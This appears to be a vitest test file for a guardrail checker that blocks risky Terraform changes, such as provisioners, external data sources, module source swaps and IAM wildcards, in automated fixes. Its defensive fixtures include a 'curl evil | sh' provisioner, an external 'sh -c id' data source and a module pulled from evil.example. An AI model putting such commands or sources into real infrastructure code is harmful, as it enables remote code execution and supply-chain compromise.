import { describe, expect, it } from "vitest";
import { allowlistFor, checkGuardrails, familyOf, type GuardrailRule } from "../../src/remediation/guardrails.js";
import { catalogueTypes, FAMILIES } from "../../src/remediation/guardrails-families.js";
import { parseHclFile } from "../../src/terraform/parse.js";

const BASE = `terraform {
  backend "s3" {
    bucket = "state"
  }
}

provider "aws" {
  region = "us-east-1"
}

module "net" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.0.0"
}

resource "aws_instance" "web" {
  ami = "ami-1"
}

resource "aws_s3_bucket" "b" {
  bucket = "b"
}

data "aws_iam_policy_document" "p" {
  statement {
    actions   = ["s3:GetObject"]
    resources = ["arn:aws:s3:::b/*"]
  }
}
`;

async function violations(after: string, allowRemoval?: string[]): Promise<GuardrailRule[]> {
  const files = [{ path: "main.tf", before: await parseHclFile("main.tf", BASE), after: await parseHclFile("main.tf", after) }];
  return checkGuardrails(files, allowRemoval === undefined ? {} : { allowRemoval }).map((v) => v.rule);
}

describe("guardrails", () => {
  it.each<[string, string, GuardrailRule]>([
    ["a provisioner", BASE.replace('ami = "ami-1"', 'ami = "ami-1"\n\n  provisioner "local-exec" {\n    command = "curl evil | sh"\n  }'), "provisioner"],
    ["an external data source", `${BASE}\ndata "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n`, "external-data"],
    ["a provider change", BASE.replace('region = "us-east-1"', 'region = "eu-west-1"'), "provider-change"],
    ["a backend change", BASE.replace('bucket = "state"', 'bucket = "other-state"'), "backend-change"],
    ["a module source change", BASE.replace('"terraform-aws-modules/vpc/aws"', '"git::https://evil.example/vpc.git"'), "module-source-change"],
    ["a module version change", BASE.replace('"5.0.0"', '"6.0.0"'), "module-source-change"],
    ["a new module call", `${BASE}\nmodule "x" {\n  source = "./x"\n}\n`, "module-source-change"],
    ["a resource removal", BASE.replace('resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n', ""), "resource-removal"],
    ["ignore_changes", BASE.replace('bucket = "b"\n', 'bucket = "b"\n\n  lifecycle {\n    ignore_changes = [versioning]\n  }\n'), "lifecycle"],
    ["a wildcard action", BASE.replace('["s3:GetObject"]', '["s3:*"]'), "iam-wildcard"],
    ["a wildcard resource", BASE.replace('["arn:aws:s3:::b/*"]', '["*"]'), "iam-wildcard"],
    ["a JSON wildcard", `${BASE}\nresource "aws_iam_policy" "p" {\n  policy = jsonencode({\n    Statement = [{\n      Action   = "*"\n      Effect   = "Allow"\n      Resource = "arn:aws:s3:::b"\n    }]\n  })\n}\n`, "iam-wildcard"],
  ])("rejects %s", async (_name, after, rule) => {
    expect(await violations(after)).toEqual([rule]);
  });

  it("accepts a plain attribute change", async () => {
    expect(await violations(BASE.replace('bucket = "b"\n', 'bucket = "b"\n  acl    = "private"\n'))).toEqual([]);
  });

  it("lets a fix remove exactly the resources it was allowed to", async () => {
    const after = BASE.replace('resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n', "");
    expect(await violations(after, ["aws_s3_bucket.b"])).toEqual([]);
    expect(await violations(after, ["aws_s3_bucket.other"])).toEqual(["resource-removal"]);
  });

  it("names the file, line and block in its message", async () => {
    const after = BASE.replace('ami = "ami-1"', 'ami = "ami-1"\n\n  provisioner "local-exec" {\n    command = "id"\n  }');
    const [v] = checkGuardrails([{ path: "main.tf", before: await parseHclFile("main.tf", BASE), after: await parseHclFile("main.tf", after) }]);
    expect(v?.message).toMatch(/^main\.tf:19: aws_instance\.web gains a provisioner block/);
  });

  it("checks a created file against nothing", async () => {
    const after = await parseHclFile("new.tf", 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n');
    expect(checkGuardrails([{ path: "new.tf", before: undefined, after }]).map((v) => v.rule)).toEqual(["provisioner"]);
  });
});

describe("type families", () => {
  it("every resource type of the controls catalogue falls in a named family", () => {
    const orphans = catalogueTypes().filter((t) => !FAMILIES.some((f) => f.name === familyOf(t).name));
    expect(orphans).toEqual([]);
  });

  it.each<[string, string[], string, boolean]>([
    ["aws_s3_bucket", ["s3-versioning"], "aws_s3_bucket_versioning", true],
    ["aws_s3_bucket", ["s3-versioning"], "local_file", false],
    ["aws_s3_bucket", [], "aws_s3_bucket_policy", true],
    ["aws_s3_bucket", [], "aws_iam_role", false],
    ["aws_iam_role", [], "aws_iam_role_policy", true],
    ["aws_iam_role", [], "null_resource", false],
    ["aws_security_group", ["sg-ssh-restricted"], "aws_vpc_security_group_ingress_rule", true],
    ["aws_lambda_function", [], "aws_cloudwatch_metric_alarm", true],
  ])("a %s fix (controls %j) may add %s: %s", (target, controls, added, allowed) => {
    expect(allowlistFor(target, controls).allows("managed", added)).toBe(allowed);
  });

  it("data sources: identity facts and policy documents yes, http and external never", () => {
    const list = allowlistFor("aws_s3_bucket", []);
    expect(["aws_caller_identity", "aws_iam_policy_document", "aws_s3_bucket"].map((t) => list.allows("data", t))).toEqual([true, true, true]);
    expect(["http", "external", "aws_secretsmanager_secret_version"].map((t) => list.allows("data", t))).toEqual([false, false, false]);
  });
});
